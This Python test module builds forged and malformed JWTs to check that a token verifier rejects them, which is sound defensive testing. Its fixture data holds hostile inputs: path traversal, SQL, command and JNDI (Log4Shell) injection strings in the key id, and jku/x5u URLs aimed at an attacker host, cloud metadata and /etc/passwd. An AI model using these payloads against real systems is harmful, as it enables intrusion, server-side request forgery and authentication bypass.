"""What stands in a token's header beside ``alg``: key ids that are paths, queries and commands, keys that it brings
along or points to, extensions that change what it means, and types made for another purpose."""

import base64
import datetime
import json
from typing import Any

from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.serialization import Encoding
from cryptography.x509.oid import NameOID

from ..authn.minting import NOW, assemble, b64, claims, header, issuer, jwk, mint, private_key
from .token_attack import ES, HS, TokenAttack, TokenAttacks, hmac_token, raw_token, rows

_THIEF = jwk("ES256", 9, kid="k1")


def _asks(**members: Any) -> str:
    """Truly signed with our key."""
    return mint(head=header(**members))


def _thief(**members: Any) -> str:
    """Truly signed with the attacker's own key."""
    return mint(number=9, head=header(**members))


def _header(text: str) -> str:
    """Truly signed, the header as written."""
    return assemble(text.encode("utf-8", "surrogatepass"), json.dumps(claims()).encode())


def _certificate() -> str:
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "issuer.test")])
    day = datetime.datetime(2026, 1, 1)
    made = x509.CertificateBuilder(name, name, private_key("ES256", 9).public_key(), 1, day, day.replace(year=2046))
    return base64.b64encode(made.sign(private_key("ES256", 9), hashes.SHA256()).public_bytes(Encoding.DER)).decode()


_X5C = _certificate()
_THUMBPRINT = b64(base64.b64decode(_X5C)[:32])
KIDS: dict[str, object] = {
    "a path to nothing": "../../../../../../dev/null",
    "a path to a known file": "../../../../../../proc/sys/kernel/randomize_va_space",
    "a path with a NUL": "k1\0.pem",
    "an absolute path": "/etc/hostname",
    "an escaped path": "..%2f..%2fdev%2fnull",
    "a path of Windows": "..\\..\\windows\\win.ini",
    "a file URL": "file:///dev/null",
    "an http URL": "https://attacker.test/jwks.json",
    "SQL that makes a row": "x' UNION SELECT 'AA==' -- ",
    "SQL that is always true": "k1' OR '1'='1",
    "SQL that waits": "k1'; SELECT pg_sleep(9); --",
    "a command": "k1; sleep 9",
    "a command in a pipe": "|/usr/bin/id",
    "a command in backticks": "`id`",
    "a command in a substitution": "$(id)",
    "a template": "{{7*7}}",
    "a lookup (CVE-2021-44228)": "${jndi:ldap://attacker.test/x}",
    "a format string": "%s%s%s%n",
    "an LDAP filter": "k1)(|(uid=*))",
    "an XPath": "' or ''='",
    "a NoSQL operator": '{"$ne": null}',
    "a header line": "k1\r\nX-Auth-Subject: admin",
    "a log line": 'k1\n{"status": 200}',
    "a terminal's escape": "\x1b[2Jk1",
    "a wildcard": "*",
    "a regular expression": "k.",
    "a prefix": "k",
    "with more behind": "k10",
    "in capitals": "K1",
    "with a space before": " k1",
    "with a space behind": "k1 ",
    "with a newline": "k1\n",
    "with a zero-width space": "k1\u200b",
    "in full-width letters": "\uff4b\uff11",
    "with a Cyrillic letter": "\u043a1",
    "with a superscript one": "k\u00b9",
    "with a byte order mark": "\ufeffk1",
    "right to left": "\u202e1k",
    "__proto__": "__proto__",
    "constructor": "constructor",
    "__class__": "__class__",
    "an index": "0",
    "a negative index": "-1",
    "nothing": "",
    "very long": "k" * 9000,
    "null": None,
    "a number": 1,
    "zero": 0,
    "a boolean": True,
    "a list": ["k1"],
    "a list of two": ["k1", "k2"],
    "an object": {"k1": "k1"},
    "an object with an operator": {"$gt": ""},
    "an object with a length": {"length": 0},
}
KEY_IDS = rows(ES, {f"kid {name}": _asks(kid=kid) for name, kid in KIDS.items()})
KEY_IDS |= rows(
    HS,
    {
        f"kid {name}, signed with what is found there": hmac_token("HS256", secret, header("HS256", kid=kid))
        for name, kid, secret in (
            ("a path to nothing", "../../../../../../dev/null", b""),
            ("a path to a known file", "../../../../../../proc/sys/kernel/randomize_va_space", b"2\n"),
            ("SQL that makes a row", "x' UNION SELECT 'secret' -- ", b"secret"),
            ("of a key that there is not", "k2", b""),
        )
    },
)
_COMPOSED = issuer(keys=(jwk("ES256"), jwk("ES256", kid="sch\u00fcssel")))
KEY_IDS |= {
    "kid decomposed (NFD) where ours is composed (NFC)": TokenAttack(_asks(kid="schu\u0308ssel"), issuers=(_COMPOSED,))
}

EMBEDDED = rows(
    ES,
    {
        "CVE-2018-0114: an embedded jwk": _thief(jwk=_THIEF),
        "an embedded jwk without kid": _thief(kid=..., jwk=_THIEF),
        "CVE-2026-27962: an embedded jwk where no key of ours has the kid": _thief(kid="k2", jwk=_THIEF),
        "an embedded jwk that is a secret": hmac_token(
            "HS256", b"thief" * 8, header("HS256", jwk={"kty": "oct", "k": b64(b"thief" * 8)})
        ),
        "an embedded jwk with its private half": _thief(jwk={**_THIEF, "d": "AA"}),
        "an embedded key set": _thief(jwks={"keys": [_THIEF]}),
        "a kid that is a jwk": _asks(kid=dict(_THIEF)),
        "jku": _thief(jku="https://attacker.test/jwks.json"),
        "jku below the issuer's name": _thief(jku="https://issuer.test.attacker.test/jwks.json"),
        "jku with the issuer as user": _thief(jku="https://issuer.test@attacker.test/jwks.json"),
        "jku through an open redirect": _thief(jku="https://issuer.test/go?to=https://attacker.test/jwks.json"),
        "jku up from the issuer's path": _thief(jku="https://issuer.test/.well-known/../upload/jwks.json"),
        "jku to the machine itself": _thief(jku="http://127.0.0.1:8001/snapshot"),
        "jku to the cloud's metadata": _thief(jku="http://169.254.169.254/latest/meta-data/"),
        "jku a file": _thief(jku="file:///etc/passwd"),
        "jku with a header line": _thief(jku="https://issuer.test/\r\nX: y"),
        "x5u": _thief(x5u="https://attacker.test/cert.pem"),
        "x5u in the token": _thief(x5u="data:application/x-pem-file;base64," + _X5C),
        "x5c": _thief(x5c=[_X5C]),
        "x5c without kid": _thief(kid=..., x5c=[_X5C]),
        "x5c of nothing": _thief(x5c=[]),
        "x5c that is no certificate": _thief(x5c=["MIIB"]),
        "x5t": _thief(kid=..., x5t=_THUMBPRINT),
        "x5t#S256": _thief(kid=..., **{"x5t#S256": _THUMBPRINT}),
        "all of them": _thief(jwk=_THIEF, jku="https://attacker.test/", x5u="https://attacker.test/", x5c=[_X5C]),
        "an issuer in the header (RFC 7519 section 5.3)": _thief(iss="https://issuer.test/"),
        "a secret in the header": hmac_token("HS256", b"x" * 32, header("HS256", k=b64(b"x" * 32))),
    },
)

MEANING = rows(
    ES,
    {
        "CVE-2025-59420: crit of something unknown": _asks(crit=["bork"], bork="x"),
        "crit of something that is not there": _asks(crit=["exp"]),
        "crit of exp": _asks(crit=["exp"], exp=NOW + 9),
        "crit empty": _asks(crit=[]),
        "crit twice the same": _asks(crit=["exp", "exp"], exp=NOW + 9),
        "crit of a registered name": _asks(crit=["alg"]),
        "crit of itself": _asks(crit=["crit"]),
        "crit of an empty name": _asks(crit=[""], **{"": 1}),
        "crit a string": _asks(crit="b64"),
        "crit null": _asks(crit=None),
        "crit false": _asks(crit=False),
        "crit an object": _asks(crit={"exp": True}),
        "crit a list of lists": _asks(crit=[["exp"]]),
        "crit in capitals does nothing, b64 does": _asks(CRIT=["b64"], b64=False),
        "b64 false and critical (RFC 7797)": _asks(b64=False, crit=["b64"]),
        "b64 false": _asks(b64=False),
        "b64 true": _asks(b64=True, crit=["b64"]),
        "b64 a string": _asks(b64="false"),
        "cty JWT: a token within": raw_token(header(cty="JWT"), mint().encode()),
        "cty JWT over honest claims": _asks(cty="JWT"),
        "cty anything": _asks(cty="json"),
        "zip without encryption": _asks(zip="DEF"),
        "enc without encryption": _asks(enc="A128GCM"),
        "typ JWE": _asks(typ="JWE"),
        "typ JOSE+JSON": _asks(typ="JOSE+JSON"),
        "typ of an ID token of another kind": _asks(typ="id_token+jwt"),
        "typ of a logout token": _asks(typ="logout+jwt"),
        "typ of a security event": _asks(typ="secevent+jwt"),
        "typ of a DPoP proof": _asks(typ="dpop+jwt"),
        "typ of a request object": _asks(typ="oauth-authz-req+jwt"),
        "typ of an introspection response": _asks(typ="token-introspection+jwt"),
        "typ of a client's assertion": _asks(typ="client-authentication+jwt"),
        "typ of a key binding": _asks(typ="kb+jwt"),
        "typ of a selective disclosure": _asks(typ="vc+sd-jwt"),
        "typ with a parameter": _asks(typ="at+jwt; charset=utf-8"),
        "typ with a look-alike": _asks(typ="\uff2aWT"),
        "typ null": _asks(typ=None),
        "typ a number": _asks(typ=1),
        "typ a list": _asks(typ=["JWT"]),
        "alg twice, none last": _header('{"alg":"ES256","kid":"k1","alg":"none"}'),
        "alg twice, none first": _header('{"alg":"none","alg":"ES256","kid":"k1"}'),
        "alg twice, once escaped": _header('{"alg":"ES256","kid":"k1","\\u0061lg":"none"}'),
        "kid twice": _header('{"alg":"ES256","kid":"k2","kid":"k1"}'),
        "typ twice": _header('{"alg":"ES256","kid":"k1","typ":"JWT","typ":"dpop+jwt"}'),
        "a name twice, far down": _header('{"alg":"ES256","kid":"k1","x":[{"a":{"b":1,"b":1}}]}'),
        "CVE-2024-34273: __proto__ with an alg": _header('{"kid":"k1","__proto__":{"alg":"ES256"}}'),
        "CVE-2024-34273: __proto__ beside alg none": _header('{"alg":"none","__proto__":{"alg":"ES256"}}'),
        "a comment": _header('{"alg":"ES256",/* x */"kid":"k1"}'),
        "a comma too many": _header('{"alg":"ES256","kid":"k1",}'),
        "single quotes": _header("{'alg':'ES256','kid':'k1'}"),
        "a list": _header('["ES256"]'),
        "a string": _header('"ES256"'),
        "null": _header("null"),
        "nothing": _header(" "),
        "two objects": _header('{"alg":"ES256","kid":"k1"}{}'),
        "a NUL behind": _header('{"alg":"ES256","kid":"k1"}\0'),
        "NaN": _header('{"alg":"ES256","kid":"k1","x":NaN}'),
        "a byte order mark": _header('\ufeff{"alg":"ES256","kid":"k1"}'),
        "half a character": _header('{"alg":"ES256","kid":"k1","x":"\\ud800"}'),
        "half a character in CESU-8": _header('{"alg":"ES256","kid":"k1","x":"\ud800"}'),
        "a thousand levels": _header('{"alg":"ES256","kid":"k1","x":' + "[" * 1000 + "]" * 1000 + "}"),
        "overlong UTF-8": assemble(b'{"alg":"ES256","kid":"\xc1\xab1"}', json.dumps(claims()).encode()),
    },
)
ATTACKS: TokenAttacks = KEY_IDS | EMBEDDED | MEANING
